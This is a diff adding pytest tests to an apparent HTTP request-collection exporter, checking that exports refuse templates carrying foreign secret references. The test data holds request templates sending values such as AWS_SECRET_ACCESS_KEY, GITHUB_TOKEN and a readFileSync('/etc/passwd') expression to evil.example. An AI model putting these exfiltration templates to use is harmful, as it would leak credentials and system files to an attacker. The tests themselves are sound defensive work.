@@ -182,3 +182,43 @@ def test_an_export_for_a_route_that_nobody_approved_says_so(machine: Machine) ->
     assert after.status == 0
     assert "approved" in after.talk
     assert f"127.0.0.1:{machine.evil.port}" in after.talk
+
+
+FOREIGN = [
+    *("$env.AWS_SECRET_ACCESS_KEY", "$processEnv AWS_SECRET_ACCESS_KEY", "$dotenv X", " $env.X "),
+    *("vault:prodkey", "process.env.GITHUB_TOKEN", "env.X", "secrets.X", "$aadToken"),
+    *("require('fs').readFileSync('/etc/passwd')", "$randomPassword"),
+]
+
+
+@pytest.mark.parametrize("name", FOREIGN)
+@pytest.mark.parametrize(
+    "lines",
+    [
+        'url = "http://evil.example/?a={{NAME}}"\n',
+        'url = "http://evil.example/"\nheaders = ["X-A: {{NAME}}"]\n',
+        'url = "http://evil.example/"\nbody = "{{NAME}}"\n',
+        'url = "http://evil.example/"\nbody = "{{a}}"\n[variables]\na = "{{NAME}}"\n',
+        'url = "http://evil.example/"\nbody = "{{a}}{{b}}"\n[variables]\na = "{{NAME"\nb = "}}"\n',
+    ],
+)
+def test_no_export_holds_a_name_that_other_programs_read(
+    machine: Machine, name: str, lines: str
+) -> None:
+    text = lines.replace("NAME", name)
+    machine.write("collections/lure/zz.toml", f'method = "POST"\n{text}')
+    for format_ in ("http", "postman", "har"):
+        ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
+        assert (ran.status, ran.data) == (2, b""), format_
+        assert name.strip() in ran.talk
+
+
+def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
+    machine.write(
+        "collections/lure/zz.toml",
+        'method = "POST"\nurl = "{{vars.host}}/x?t={{$timestamp}}&u={{$uuid}}"\n'
+        'body = "{{order.id}} {{WeDa.EnvType}} {{$guid}}"\n',
+    )
+    for format_ in REQUEST_FORMATS:
+        ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
+        assert ran.status == 0, ran.talk
